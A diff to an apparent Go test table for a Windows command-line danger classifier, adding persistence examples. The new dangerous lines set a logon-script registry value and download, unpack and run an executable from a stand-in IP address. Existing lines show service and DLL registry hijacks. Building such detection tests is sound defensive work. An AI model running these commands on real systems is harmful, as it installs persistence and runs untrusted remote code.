@@ -320,8 +320,11 @@ func init() {
 				cmdl(`reg add HKLM\SYSTEM\CurrentControlSet\Services\x /v ImagePath /d C:\u.exe`),
 				ps(`Set-ItemProperty HKLM:\SYSTEM\CurrentControlSet\Services\upd\Parameters -Name ServiceDll -Value C:\Users\Public\u.dll`),
 				cmdl(`netsh add helper C:\evil.dll`),
+				ps(`New-ItemProperty -Path 'HKCU:\Environment' -Name UserInitMprLogonScript -Value 'C:\u.exe'`),
+				ps(`Invoke-WebRequest http://203.0.113.7/s.zip -OutFile s.zip; Expand-Archive s.zip .\s; .\s\run.exe`),
 			},
-			benign: []winLine{cmdl(`reg query HKLM\SYSTEM\CurrentControlSet\Services\docker /v ImagePath`), cmdl(`netsh show helper`)},
+			benign: []winLine{cmdl(`reg query HKLM\SYSTEM\CurrentControlSet\Services\docker /v ImagePath`), cmdl(`netsh show helper`),
+				ps(`Invoke-WebRequest https://github.com/x/y/archive/main.zip -OutFile y.zip; Expand-Archive y.zip .\vendor; Get-ChildItem .\vendor`)},
 		},
 		winClass{name: "credentials gathered",
 			dangerous: []winLine{
